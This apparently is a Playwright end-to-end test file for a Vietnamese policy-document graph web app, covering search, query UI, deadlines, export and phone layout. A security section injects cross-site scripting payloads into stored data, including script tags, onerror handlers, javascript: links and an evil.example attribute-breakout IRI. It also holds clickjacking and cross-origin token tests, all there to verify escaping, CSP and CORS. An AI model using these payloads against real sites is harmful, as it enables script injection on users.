"""The real pages in headless Chromium (Debian's /usr/bin/chromium, no `playwright install`):
query UI, search → document page with tasks, chain view, escaping.  Screenshots go to
test-artifacts/ (git-ignored).  Set PG_E2E_STORE=data/store to drive the real graph instead
of the fixture (the assertions then check shapes, not the fixture's exact values)."""

from __future__ import annotations

import io
import os
import re
from pathlib import Path

import pytest

from server_support import BASE, RAW_DIR, build_fixture_store, running_server

# Skipped only when asked (PG_SKIP_BROWSER=1); otherwise a missing browser or playwright fails
# loudly with the command that installs it, so a green run always means the pages were driven.
if os.environ.get("PG_SKIP_BROWSER") == "1":
    pytest.skip("browser tests skipped: PG_SKIP_BROWSER=1", allow_module_level=True)

try:
    from playwright.sync_api import expect, sync_playwright
except ImportError:  # reported by the browser fixture as a failure, not as a collection crash
    expect = sync_playwright = None  # type: ignore[assignment]

ARTIFACTS = Path(__file__).resolve().parents[1] / "test-artifacts"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
REAL_STORE = os.environ.get("PG_E2E_STORE")


@pytest.fixture(scope="module")
def fixture_url(tmp_path_factory):
    with running_server(
        build_fixture_store(tmp_path_factory.mktemp("e2e") / "store"), timeout_s=10.0
    ) as base_url:
        yield base_url


@pytest.fixture(scope="module")
def url(fixture_url):
    if not REAL_STORE:
        yield fixture_url
        return
    with running_server(Path(REAL_STORE), timeout_s=10.0) as base_url:
        yield base_url


@pytest.fixture(scope="module")
def browser():
    if sync_playwright is None:
        pytest.fail(
            "playwright is not installed: run `make test` (it installs the test extra) "
            "or set PG_SKIP_BROWSER=1"
        )
    if not Path(CHROMIUM).exists():
        pytest.fail(
            f"{CHROMIUM} is missing: `make test` installs it (apt-get install chromium) "
            "or set PG_SKIP_BROWSER=1"
        )
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture
def page(browser):
    """A fresh page that may only talk to our server: anything else (a CDN, prefix.cc, LOV)
    is aborted and recorded, so the UI is shown to work offline."""
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="vi-VN")
    page = context.new_page()
    page.outside_requests = []
    page.dialogs = []
    page.console_errors = []

    def route(r):
        if r.request.url.startswith(("http://127.0.0.1:", "data:")):  # our test servers only
            r.continue_()
        else:
            page.outside_requests.append(r.request.url)
            r.abort()

    page.route("**/*", route)
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: m.type == "error" and page.console_errors.append(m.text))
    page.on("pageerror", lambda e: page.console_errors.append(str(e)))
    yield page
    context.close()


def shot(page, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=False)


def test_query_ui_runs_an_example_query(page, url):
    page.goto(url + "/sparql-ui")
    page.wait_for_selector(".yasqe .CodeMirror")
    page.select_option("#example", "documents")
    expect(page.locator("#example-description")).to_contain_text("Every document node")
    page.click(".yasqe_queryButton")
    rows = page.locator(".yasr table tbody tr")
    expect(rows.first).to_be_visible(timeout=15000)
    if not REAL_STORE:
        expect(rows).to_have_count(5)  # 214/KH-UBND, 111/NQ-CP, 29-NQ/TW, 31-CTr/TU, the <script> draft
        expect(page.locator(".yasr table")).to_contain_text("214/KH-UBND")
    shot(page, "1-query-ui")
    assert page.outside_requests == []
    assert page.console_errors == []


def test_query_ui_binds_parameters_and_runs(page, url):
    page.goto(url + "/sparql-ui")
    page.wait_for_selector(".yasqe .CodeMirror")
    page.select_option("#example", "chain-up")
    form = page.locator("#params")
    expect(form).to_be_visible()
    expect(page.locator("#params input[name=doc]")).to_have_attribute("list", "doc-suggestions")
    if not REAL_STORE:  # the fixture's document symbols, from the graph
        expect(page.locator("#doc-suggestions option")).to_have_count(4)
        assert page.locator("#doc-suggestions option").evaluate_all("os => os.map(o => o.value)") == [
            "111/NQ-CP",
            "214/KH-UBND",
            "29-NQ/TW",
            "31-CTr/TU",
        ]
    page.fill("#params input[name=doc]", "Kế hoạch 999")
    page.click("#params button[type=submit]")
    expect(page.locator("#param-error")).to_contain_text("không tìm thấy văn bản 'Kế hoạch 999'")
    page.fill("#params input[name=doc]", "214/KH-UBND")
    page.click("#params button[type=submit]")
    expect(page.locator("#param-error")).to_be_hidden()
    rows = page.locator(".yasr table tbody tr")
    expect(rows.first).to_be_visible(timeout=15000)
    if not REAL_STORE:
        expect(rows).to_have_count(2)  # 111/NQ-CP at depth 1, 29-NQ/TW at depth 2
        expect(page.locator(".yasr table")).to_contain_text("29-NQ/TW")
    editor = page.evaluate("window.policyGraphYasgui.getTab().getQuery()")
    assert "VALUES (?start)" in editor and "/eli/vn-29/kh/2024/214>" in editor
    assert page.url.endswith("/sparql-ui#doc=214%2FKH-UBND&q=chain-up")  # a link to share
    shot(page, "1b-query-ui-parameters")
    page.select_option("#example", "documents")
    expect(form).to_be_hidden()
    page.get_by_label(
        "Ellipse"
    ).uncheck()  # whole values: YASR's first click on a cut-off cell only expands it
    page.locator(".yasr table a.iri[href$='/eli/vn/nq/2022/29-tw']").filter(visible=True).first.click()
    expect(page.locator("h1")).to_contain_text("Nghị quyết 29-NQ/TW")
    assert page.url == url + "/eli/vn/nq/2022/29-tw"
    assert page.outside_requests == []
    # the browser logs the deliberate 400 for "Kế hoạch 999"; nothing else may fail
    assert page.console_errors == [
        "Failed to load resource: the server responded with a status of 400 (Bad Request)"
    ]


def test_shared_link_fills_the_form_and_runs(page, url):
    page.goto(url + "/sparql-ui#q=chain-up&doc=214%2FKH-UBND")
    expect(page.locator("#example")).to_have_value("chain-up")
    expect(page.locator("#params input[name=doc]")).to_have_value("214/KH-UBND")
    rows = page.locator(".yasr table tbody tr")
    expect(rows.first).to_be_visible(timeout=15000)
    if not REAL_STORE:
        expect(rows).to_have_count(2)
    assert page.outside_requests == []
    assert page.console_errors == []


def test_search_then_document_page_with_tasks(page, url):
    page.goto(url + "/")
    page.fill("#search-box", "214/KH-UBND")
    page.press("#search-box", "Enter")
    first = page.locator("tr.hit a").first
    expect(first).to_have_text("Kế hoạch 214/KH-UBND")
    shot(page, "2-search")
    first.click()
    expect(page.locator("h1")).to_contain_text("Kế hoạch 214/KH-UBND")
    tasks = page.locator("table.tasks tr.task")
    if REAL_STORE:
        expect(tasks.first).to_be_visible()
    else:
        expect(tasks).to_have_count(2)
        expect(tasks.first).to_contain_text("Sở Công Thương")
        expect(tasks.first).to_contain_text("Năm 2025")
    page.locator("table.tasks").scroll_into_view_if_needed()
    shot(page, "3-document-tasks")
    page.locator("table.tasks a.src").first.click()
    expect(page.locator("mark#span")).to_be_visible()
    shot(page, "4-source-span")
    assert page.outside_requests == []


def test_chain_view_expands_on_click(page, url):
    page.goto(url + "/search?q=214/KH-UBND")
    page.locator("tr.hit a").first.click()
    page.wait_for_load_state("load")  # chain.js (deferred) has bound the button
    page.click("#chain-toggle")
    chain = page.locator("#chain")
    expect(chain).to_have_attribute("data-expanded", "1")
    expect(chain.locator("canvas")).to_be_visible()
    before = int(chain.get_attribute("data-nodes"))
    page.locator("#chain").scroll_into_view_if_needed()
    shot(page, "5-chain")
    if not REAL_STORE:
        assert before == 4  # two steps: the draft below, 111/NQ-CP and 29-NQ/TW above
        top = "https://w3id.org/policy-graph/eli/vn/nq/2022/29-tw"
        box = page.locator("#chain canvas").bounding_box()
        where = f"""(() => {{ const c = window.policyGraphChain.network;
            const p = c.canvasToDOM(c.getPosition({top!r})); return [Math.round(p.x), Math.round(p.y)]; }})()"""
        point = page.evaluate(where)
        for _ in range(50):  # a loaded machine may still be laying the graph out: click where it rests
            page.wait_for_timeout(200)
            settled = page.evaluate(where)
            if settled == point:
                break
            point = settled
        page.mouse.click(box["x"] + point[0], box["y"] + point[1])
        expect(chain).to_have_attribute("data-expanded", "2")
        expect(chain).to_have_attribute("data-nodes", "5")  # + 31-CTr/TU
        shot(page, "6-chain-expanded")
    assert page.outside_requests == []
    assert page.console_errors == []


def test_script_in_a_document_label_shows_as_text(page, fixture_url):
    """Always on the fixture: only it has a document labelled <script>…"""
    page.goto(fixture_url + "/eli/vn-27/kh/2023/draft-0badc0de")
    expect(page.locator("h1")).to_have_text("<script>alert(1)</script> (Plan <img src=x onerror=alert(2)>)")
    page.click("#chain-toggle")
    expect(page.locator("#chain")).to_have_attribute("data-expanded", "1")
    shot(page, "7-escaped")
    assert page.dialogs == []


# ------------------------------------------------------------ the everyday pages on the seed graph

PHONE = {"width": 390, "height": 844}
SEED_PAGES = [
    "/",
    "/search?q=So%20Cong%20Thuong",
    "/tree?doc=29-NQ/TW",
    "/deadlines",
    "/compare?doc=29-NQ/TW",
    "/documents",
    "/eli/vn-29/kh/2024/214",
    "/eli/vn/nq/2022/29-tw",
    "/eli/vn/luat/name/luat-dau-tu",
    "/org/vn-29/so-cong-thuong",
    "/eli/vn-29/kh/2024/214/task/5",
    "/sparql-ui",
]


@pytest.fixture(scope="module")
def seed_url(seed_build):
    with running_server(seed_build[1], timeout_s=20.0) as base_url:
        yield base_url


def tree_row_count(page) -> int:
    return page.locator("table.tree tr.tree-row").count()


def test_legal_officer_search_tree_filter_export(page, seed_url):
    """'Which documents carry out Nghị quyết 29-NQ/TW, down to each task, who leads it, by when?'"""
    from openpyxl import load_workbook

    page.goto(seed_url + "/")
    shot(page, "10-landing")
    page.fill("#landing-search", "Nghị quyết số 29-NQ/TW")
    page.press("#landing-search", "Enter")
    first = page.locator("tr.hit").first
    expect(first).to_contain_text("Nghị quyết 29-NQ/TW")
    shot(page, "11-search-29")
    first.get_by_role("link", name="Cây triển khai").click()
    expect(page.locator("h1")).to_contain_text("Nghị quyết 29-NQ/TW")
    everything = tree_row_count(page)
    expect(page.locator("#row-count")).to_have_text(str(everything))
    for plan in (
        "Kế hoạch 214/KH-UBND",
        "Chương trình 31-CTr/TU",
        "Kế hoạch (chưa có số) của Ủy ban nhân dân tỉnh Quảng Nam",
    ):
        expect(page.locator("table.tree")).to_contain_text(plan)
    shot(page, "12-tree")
    page.select_option("select[name=province]", "Quảng Ngãi")
    page.fill("input[name=agency]", "Sở Công Thương")
    page.click("#tree-filters button[type=submit]")
    expect(page.locator("select[name=province]")).to_have_value("Quảng Ngãi")
    filtered = tree_row_count(page)
    assert 0 < filtered < everything
    for cell in page.locator("table.tree tr.tree-row td[data-label='Tỉnh']").all_inner_texts():
        assert cell.strip() == "Quảng Ngãi"
    shot(page, "13-tree-filtered")
    with page.expect_download() as download:
        page.click("#export-xlsx")
    assert download.value.suggested_filename == "cay-trien-khai-29-nq-tw.xlsx"
    sheet = load_workbook(io.BytesIO(Path(download.value.path()).read_bytes())).active
    assert sheet.max_row - 1 == filtered  # the header, then exactly the rows on screen
    shown = page.locator("table.tree tr.tree-row td[data-label='Mục'] a").evaluate_all(
        "as => as.map(a => a.href)"
    )
    task_column = [c.value for c in sheet[1]].index("Nhiệm vụ (IRI) (task IRI)") + 1
    assert [
        sheet.cell(row=r, column=task_column).value.split("/policy-graph")[1]
        for r in range(2, sheet.max_row + 1)
    ] == [href.split(seed_url)[1] for href in shown]
    assert page.outside_requests == [] and page.console_errors == []


def test_deadlines_by_month_past_due_first(page, seed_url):
    page.goto(seed_url + "/deadlines?today=2025-06-01")
    sections = page.locator("section.month")
    expect(sections.first).to_have_class(re.compile("overdue"))
    expect(page.locator("section.month.overdue tr.deadline-row").first).to_be_visible()
    expect(page.locator("section#month-2020-12")).to_contain_text("31/12/2020")
    shot(page, "14-deadlines")
    page.select_option("select[name=province]", "Quảng Nam")
    page.click("form.filters button[type=submit]")
    for cell in page.locator("tr.deadline-row td[data-label='Tỉnh']").all_inner_texts():
        assert cell.strip() == "Quảng Nam"
    assert page.outside_requests == [] and page.console_errors == []


def test_compare_provinces_side_by_side(page, seed_url):
    page.goto(seed_url + "/compare?doc=29-NQ/TW")
    provinces = page.locator("section.province h2")
    expect(provinces).to_have_text(["Quảng Nam", "Quảng Ngãi"])
    boxes = [page.locator("section.province").nth(i).bounding_box() for i in range(2)]
    assert abs(boxes[0]["y"] - boxes[1]["y"]) < 2 and boxes[0]["x"] < boxes[1]["x"]  # side by side
    shot(page, "15-compare")
    assert page.outside_requests == [] and page.console_errors == []


def test_chain_picture_has_no_arrow_through_a_box_and_a_legend(page, seed_url):
    page.goto(seed_url + "/eli/vn-29/kh/2024/214")
    page.click("#chain-toggle")
    chain = page.locator("#chain")
    expect(chain).to_have_attribute("data-expanded", "1")
    expect(page.locator("#chain-legend")).to_be_visible()
    page.wait_for_timeout(500)
    crossings = page.evaluate("""(() => {
      const { network, nodes, edges, documents } = window.policyGraphChain;
      const pos = network.getPositions();
      const boxes = [...documents.keys()].map((id) => [id, network.getBoundingBox(id)]);
      const hits = [];
      for (const e of edges.get()) {
        const a = pos[e.from], b = pos[e.to];
        for (const [id, r] of boxes) {
          if (id === e.from || id === e.to) continue;
          for (let t = 0.02; t < 1; t += 0.02) {  // sample the segment between its two ends
            const x = a.x + (b.x - a.x) * t, y = a.y + (b.y - a.y) * t;
            if (x > r.left && x < r.right && y > r.top && y < r.bottom) { hits.push([e.id, id]); break; }
          }
        }
      }
      return { hits: hits, documents: documents.size, waypoints: nodes.get().filter((n) => n.waypoint).length };
    })()""")
    assert crossings["documents"] >= 5
    assert (
        crossings["waypoints"] >= 1
    )  # 214 → 29-NQ/TW spans two rows: routed beside 31-CTr/TU, not through it
    assert crossings["hits"] == []
    chain.scroll_into_view_if_needed()
    shot(page, "16-chain-seed")
    assert page.outside_requests == [] and page.console_errors == []


@pytest.mark.parametrize("path", SEED_PAGES)
def test_every_page_fits_a_phone_offline_without_errors(browser, seed_url, path):
    context = browser.new_context(viewport=PHONE, locale="vi-VN", is_mobile=True, has_touch=True)
    page = context.new_page()
    outside, errors = [], []
    page.route(
        "**/*",
        lambda r: r.continue_()
        if r.request.url.startswith(("http://127.0.0.1:", "data:"))
        else (outside.append(r.request.url), r.abort()),
    )
    page.on("console", lambda m: m.type == "error" and errors.append(m.text))
    page.on("pageerror", lambda e: errors.append(str(e)))
    try:
        response = page.goto(seed_url + path)
        assert response.status == 200
        page.wait_for_load_state("networkidle")
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= PHONE["width"], f"{path} is {width} px wide on a 390 px screen"
        name = re.sub(r"[^0-9a-z]+", "-", path.lower()).strip("-") or "landing"
        shot(page, f"phone-{name}")
        assert outside == [] and errors == []
    finally:
        context.close()


# ------------------------------------------------------------ a hostile stored document, every page

# Appended to every text of the graph (labels, titles, task texts, deadlines, agency and issuer
# names, quotes, the source file's name): markup that would run or make an element if any page,
# script or library put a stored text into HTML unescaped; each variant closes a different context
# (an element, a double- or single-quoted attribute, a script, a template).
HOSTILE = (
    "\"'><img src=x id=pwned-img onerror=alert('img')><svg id=pwned-svg onload=alert('svg')></svg>"
    "</script><script id=pwned-script>alert('script')</script></textarea></title>"
    "<a id=pwned-link href=javascript:alert('link')>x</a>{{7*7}}${7*7}"
    "<style id=pwned-style>body{display:none}</style><b id=pwned-styled style=display:none>s</b>"
)
KEPT_AS_NAMES = ("id_local", "number", "issuerCode")  # the symbols pages are looked up by
HOSTILE_PAGES = [
    "/",
    "/search?q=" + "K%E1%BA%BF%20ho%E1%BA%A1ch",
    "/search?q=%3Cimg%20src%3Dx%20id%3Dpwned-q%20onerror%3Dalert(1)%3E",
    "/documents",
    "/tree?doc=29-NQ/TW",
    "/tree?doc=%3Cscript%3Ealert(1)%3C/script%3E",
    "/deadlines",
    "/compare?doc=29-NQ/TW",
    "/eli/vn-29/kh/2024/214",
    "/eli/vn-27/kh/2023/draft-0badc0de",
    "/eli/vn/nq/2022/29-tw",
    "/org/vn-29/so-cong-thuong",
    "/eli/vn-29/kh/2024/214/task/1",
    "/eli/vn-29/kh/2024/214/task/1/deadline",
    "/source/4478c4c3e9e6165e?start=120&end=135",
    "/eli/%3Cimg%20src=x%20id=pwned-path%20onerror=alert(1)%3E",
    "/eli/vn-29/kh/2024/214\u2044x",  # a unicode lookalike of '/' in the path
]


def _hostile_store(folder: Path) -> Path:
    import pyoxigraph as ox

    from graph.store import settle
    from server_support import FIXTURE

    store = ox.Store(str(folder / "store"))
    for quad in ox.parse(path=str(FIXTURE), format=ox.RdfFormat.TRIG):
        value = quad.object
        plain = isinstance(value, ox.Literal) and (value.language or value.datatype.value.endswith("#string"))
        if plain and not quad.predicate.value.endswith(KEPT_AS_NAMES):
            value = (
                ox.Literal(value.value + HOSTILE, language=value.language)
                if value.language
                else (ox.Literal(value.value + HOSTILE))
            )
        store.add(ox.Quad(quad.subject, quad.predicate, value, quad.graph_name))
    # a link the graph may hold (an update may store any IRI): never followed as script
    store.add(
        ox.Quad(
            ox.NamedNode("https://w3id.org/policy-graph/eli/vn-29/kh/2024/214"),
            ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#seeAlso"),
            ox.NamedNode("javascript:alert('iri')"),
            ox.NamedNode("https://w3id.org/policy-graph/graph/hostile"),
        )
    )
    # (stop 17) what else an update may store: a datatype that is a javascript: IRI, an IRI with
    # quotes and parentheses (valid in an IRI) that would close a single-quoted attribute, line
    # and paragraph separators and a right-to-left override (which end a JS string in old engines
    # and turn text around), in a literal
    doc = ox.NamedNode("https://w3id.org/policy-graph/eli/vn-29/kh/2024/214")
    graph = ox.NamedNode("https://w3id.org/policy-graph/graph/hostile")
    for predicate, value in (
        ("comment", ox.Literal("typed", datatype=ox.NamedNode("javascript:alert('datatype')"))),
        ("seeAlso", ox.NamedNode("http://evil.example/'onmouseover='alert(1)'x=(")),
        ("seeAlso", ox.NamedNode("https://w3id.org/policy-graph//evil.example/under-the-base")),
        ("comment", ox.Literal("tách\u2028dòng\u2029\u202eTW-QN-92</script>" + HOSTILE, language="vi")),
    ):
        store.add(
            ox.Quad(doc, ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#" + predicate), value, graph)
        )
    settle(store)
    store.flush()
    return folder / "store"


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory):
    with running_server(_hostile_store(tmp_path_factory.mktemp("hostile")), timeout_s=10.0) as base_url:
        yield base_url


WATCH_FOR_SCRIPT = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.violatedDirective + " " + e.blockedURI));
"""
FOUND_INJECTED = """() => ({
  elements: [...document.querySelectorAll("[id^=pwned], script:not([src]):not([type='application/json'])")]
    .map((e) => e.outerHTML.slice(0, 80)),
  scripts: [...document.querySelectorAll("script[src]")].map((e) => e.getAttribute("src"))
    .filter((src) => !src.startsWith("/static/")),
  links: [...document.querySelectorAll("a[href], area[href], form[action], iframe[src], [onclick]")]
    .map((e) => e.getAttribute("href") || e.getAttribute("action") || e.getAttribute("src") || "onclick")
    .filter((v) => /^\\s*(javascript|data|vbscript):/i.test(v) || v === "onclick"),
  violations: window.__violations,
})"""


@pytest.fixture(params=["csp", "no-csp"])
def hostile_page(browser, request):
    """A page on the hostile graph, with the server's Content-Security-Policy enforced, or ignored
    (``bypass_csp``: the escaping alone must hold, as in a browser or a proxy that drops the header)."""
    context = browser.new_context(bypass_csp=request.param == "no-csp")
    page = context.new_page()
    page.csp = request.param == "csp"
    page.dialogs = []
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    page.add_init_script(WATCH_FOR_SCRIPT)
    yield page
    context.close()


@pytest.mark.parametrize("path", HOSTILE_PAGES)
def test_hostile_text_in_the_graph_runs_no_script_on_any_page(hostile_page, hostile_url, path):
    """Every text of the graph ends in markup for each HTML context; on every page the text shows
    as text: no element is made from it, no dialog opens (with the CSP and without it), no inline
    script is even attempted (a CSP violation would mean something escaped the escaping and only
    the CSP stopped it), no link goes to javascript:.  Nothing found; kept as a test of every page."""
    page = hostile_page
    response = page.goto(hostile_url + path)
    assert response.status in (200, 400, 404)
    page.wait_for_load_state("networkidle")
    if path.startswith("/eli/vn-27") or path == "/eli/vn-29/kh/2024/214":
        page.click("#chain-toggle")  # the chain picture: labels and tooltips from the graph
        expect(page.locator("#chain")).to_have_attribute("data-expanded", re.compile("[1-9]"))
        page.wait_for_load_state("networkidle")
    found = page.evaluate(FOUND_INJECTED)
    assert found == {"elements": [], "scripts": [], "links": [], "violations": []}
    assert page.dialogs == []
    if response.status == 200 and "pwned" not in path and "doc=%3C" not in path:
        assert "id=pwned-img" in page.inner_text("body")  # the text is there, shown as text


def run_in_query_ui(page, url: str, query: str) -> None:
    """Open the query UI, run ``query`` in its tab and wait for the first row of the table."""
    page.goto(url + "/sparql-ui")
    page.wait_for_load_state("networkidle")
    page.evaluate("(q) => { const t = window.policyGraphYasgui.getTab(); t.setQuery(q); t.query(); }", query)
    expect(page.locator(".yasr table tbody tr").first).to_be_visible()


def test_hostile_text_in_query_results_runs_no_script(hostile_page, hostile_url):
    """The query UI's result table, with the graph's labels put in place of IRIs (/api/labels).
    With the CSP, Chromium reports script-src-attr violations from yasgui.min.js here: DOMPurify
    parses each escaped cell in an inert DOMParser document, which never runs a handler or loads
    an image (without the CSP no dialog opens and nothing is fetched): those are not counted, nor
    (stop 17, no 'unsafe-inline' for styles) the style-src ones of the same inert parse: no style
    element or attribute of the text reaches the page (its display:none would hide the table)."""
    page = hostile_page
    run_in_query_ui(
        page, hostile_url, "SELECT ?d ?t WHERE { ?d <http://data.europa.eu/eli/ontology#title> ?t }"
    )
    page.wait_for_timeout(1000)  # images, had any element been made, would have failed to load by now
    found = page.evaluate(FOUND_INJECTED)
    violations = set(found.pop("violations"))
    assert found == {"elements": [], "scripts": [], "links": []}
    assert violations <= {"script-src-attr inline", "style-src-elem inline", "style-src-attr inline"}
    assert page.dialogs == [] and "id=pwned-img" in page.inner_text(".yasr")
    styled = page.evaluate(
        "() => [...document.querySelectorAll('style')].map((s) => s.textContent.slice(0, 40))"
    )
    assert not any("display:none" in text for text in styled)


def test_hostile_iris_datatypes_and_separators_in_query_results_run_no_script(hostile_page, hostile_url):
    """(stop 17) Every value the graph holds about one document in the query UI's table (IRIs
    become links, datatypes are shown, labels are looked up): a javascript: IRI and datatype, an
    IRI with quotes that would close an attribute, U+2028/U+2029 and a right-to-left override;
    every cell hovered and every link's target read.  Found: YASR wrote href='IRI' unescaped, so
    the quote in <http://evil.example/'onmouseover='alert(1)'x=(> ended the link's address and
    made attributes of the rest (DOMPurify dropped the handler, kept x="('"); index.js now makes
    the link with every character escaped."""
    page = hostile_page
    run_in_query_ui(
        page,
        hostile_url,
        "SELECT ?p ?o WHERE { <https://w3id.org/policy-graph/eli/vn-29/kh/2024/214> ?p ?o }",
    )
    page.wait_for_load_state("networkidle")  # the labels' look-up
    for cell in page.locator(".yasr table tbody td").all()[:200]:
        cell.hover()
    found = page.evaluate(FOUND_INJECTED)
    violations = set(found.pop("violations"))
    hrefs = page.evaluate("() => [...document.querySelectorAll('.yasr a[href]')].map((a) => a.href)")
    assert found == {"elements": [], "scripts": [], "links": []}
    assert violations <= {"script-src-attr inline", "style-src-elem inline", "style-src-attr inline"}
    assert page.dialogs == [] and all(h.startswith(("http://", "https://")) for h in hrefs)
    evil = page.evaluate(
        "() => [...document.querySelectorAll('.yasr .iri')].filter((a) => a.textContent.includes('onmouseover'))"
        ".map((a) => [a.getAttribute('href'), a.getAttributeNames().sort()])"
    )
    # before: href 'http://evil.example/' and an attribute x="('" made of the rest of the IRI
    assert [href for href, _ in evil] == ["http://evil.example/'onmouseover='alert(1)'x=("]
    assert set(evil[0][1]) <= {"class", "href", "target", "rel"}
    text = page.inner_text(".yasr")
    assert "evil.example" in text and "TW-QN-92" in text


def test_an_iri_under_the_base_never_takes_a_click_to_another_host(browser, hostile_url):
    """(stop 17) Found: the query UI opens a graph IRI's page on this server by cutting the base
    off its link, and <https://w3id.org/policy-graph//evil.example/…> (an update may store it) was
    cut to '//evil.example/…': a click went to evil.example (what the server's own links never
    do, since stop 16).  Now only a target of this origin is opened here."""
    context = browser.new_context()
    asked = []
    context.on("request", lambda r: asked.append(r.url))
    page = context.new_page()
    query = "SELECT ?o WHERE { ?s <http://www.w3.org/2000/01/rdf-schema#seeAlso> ?o }"
    try:
        run_in_query_ui(page, hostile_url, query)
        link = page.locator(".yasr a.iri", has_text="under-the-base")
        expect(link).to_be_visible()
        link.click()
        page.wait_for_timeout(1000)
    finally:
        context.close()
    from urllib.parse import urlsplit

    assert [url for url in asked if urlsplit(url).hostname == "evil.example"] == []
    assert any(url.startswith("https://w3id.org/policy-graph//evil.example") for url in asked)  # the IRI


STYLES_APPLIED = """() => ({
  styles: [...document.querySelectorAll("style")].map((s) => s.sheet !== null),
  violations: window.__violations.filter((v) => v.startsWith("style-src")),
})"""


def test_the_libraries_own_styles_apply_under_a_csp_without_unsafe_inline(page, url):
    """(stop 17) The CSP allows no inline style but the fixed <style> texts vis-network and YASGUI
    insert, by hash: each of those applies (a refused one has no sheet), and nothing is refused.
    Fails when a new bundle inserts another text: read its hash from the violation and add it to
    limits.VENDORED_STYLE_HASHES after reading the text."""
    page.add_init_script(WATCH_FOR_SCRIPT)
    page.goto(url + "/eli/vn-29/kh/2024/214")
    page.click("#chain-toggle")
    expect(page.locator("#chain")).to_have_attribute("data-expanded", re.compile("[1-9]"))
    page.wait_for_load_state("networkidle")
    chain = page.evaluate(STYLES_APPLIED)
    run_in_query_ui(page, url, "SELECT * WHERE { ?s ?p ?o } LIMIT 5")
    query_ui = page.evaluate(STYLES_APPLIED)
    assert len(chain["styles"]) >= 7 and all(chain["styles"]) and chain["violations"] == []
    assert len(query_ui["styles"]) >= 1 and all(query_ui["styles"]) and query_ui["violations"] == []


# ------------------------------------------------------------ a foreign origin (stop 15)

FOREIGN_ORIGIN_PAGE = "<!doctype html><title>evil</title><body><iframe id=f src='{url}/'></iframe></body>"


def test_a_foreign_page_cannot_frame_ours(page, url):
    """Clickjacking: a page of another origin puts ours in a frame, to overlay it; the browser
    must refuse to show it (frame-ancestors 'none', X-Frame-Options: DENY)."""
    page.set_content(FOREIGN_ORIGIN_PAGE.format(url=url))
    page.wait_for_timeout(1500)
    framed = page.frames[1]
    assert "Tìm" not in framed.content() and "policy-graph" not in framed.content()


def test_a_foreign_page_reads_answers_but_cannot_send_the_update_token(browser, url):
    """CORS: any page may query the endpoint and read the answer; none may send an
    Authorization header (before: allowed, so every visitor of a hostile page was one more
    client guessing the update token, within that client's budget).  A page of its own
    origin (another loopback port), without request interception (which skips preflights)."""
    import http.server
    import threading

    class Foreign(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = b"<!doctype html><title>evil</title>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    foreign = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    threading.Thread(target=foreign.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{foreign.server_address[1]}/")
        read = page.evaluate(
            """async (url) => (await (await fetch(url + '/sparql?query=ASK%7B%7D',
                 {headers: {Accept: 'application/sparql-results+json'}})).json()).boolean""",
            url,
        )
        sent = page.evaluate(
            """async (url) => {
                 try {
                   const r = await fetch(url + '/sparql', {method: 'POST',
                     headers: {'Authorization': 'Bearer guess', 'Content-Type': 'application/x-www-form-urlencoded'},
                     body: 'update=CLEAR%20ALL'});
                   return 'answered ' + r.status;
                 } catch (e) { return 'blocked'; }
               }""",
            url,
        )
    finally:
        context.close()
        foreign.shutdown()
        foreign.server_close()
    assert read is True
    assert sent == "blocked"


# ------------------------------------------------------------ the pyvis pages of `policy-graph viz` (stop 16)

CATCH_THE_NETWORK = """
Object.defineProperty(window, "vis", { configurable: true,
  set(v) { window.__vis = v; },
  get() { return window.__vis && new Proxy(window.__vis, { get(t, k) {
    if (k !== "Network") return t[k];
    return function (...a) { const n = new t.Network(...a); window.__net = n; return n; };
  } }); } });
window.__tips = [];
new MutationObserver(() => {
  for (const t of document.querySelectorAll(".vis-tooltip"))
    if (t.style.visibility !== "hidden" && t.innerText) window.__tips.push(t.innerText);
}).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
"""


def test_a_pyvis_page_of_the_hostile_graph_runs_no_script_even_in_its_tooltips(browser, tmp_path):
    """`policy-graph viz` writes a file opened without our server (so without its CSP): every
    label and title of the hostile graph is in its inline script (JSON) and list; a tooltip
    shows on hovering each node.  Nothing runs, no element is made, the tooltips hold the markup
    as text.  (The page's network is caught by wrapping vis.Network before the page's script.)
    Nothing found; kept as a test."""
    from graph import analytics, viz
    from graph.store import open_store

    store = open_store(_hostile_store(tmp_path))
    graph = analytics.document_graph(store)
    view = viz.chain_view(graph, f"{BASE}/eli/vn/nq/2022/29-tw", tasks=analytics.task_graph(store))
    path = viz.write_html(view, tmp_path / "chain.html")
    del store
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.add_init_script(CATCH_THE_NETWORK)
    try:
        page.goto(path.as_uri())
        page.wait_for_function("() => window.__net !== undefined")
        page.wait_for_timeout(500)  # drawn and fitted
        canvas = page.locator("#network canvas").bounding_box()
        points = page.evaluate(
            "() => { const p = window.__net.getPositions();"
            " return Object.keys(p).map((k) => window.__net.canvasToDOM(p[k])); }"
        )
        for point in points:
            page.mouse.move(canvas["x"] + point["x"], canvas["y"] + point["y"])
            page.wait_for_timeout(300)  # the tooltip's delay is 150 ms
        tips = page.evaluate("window.__tips")
        made = page.evaluate("() => document.querySelectorAll('[id^=pwned]').length")
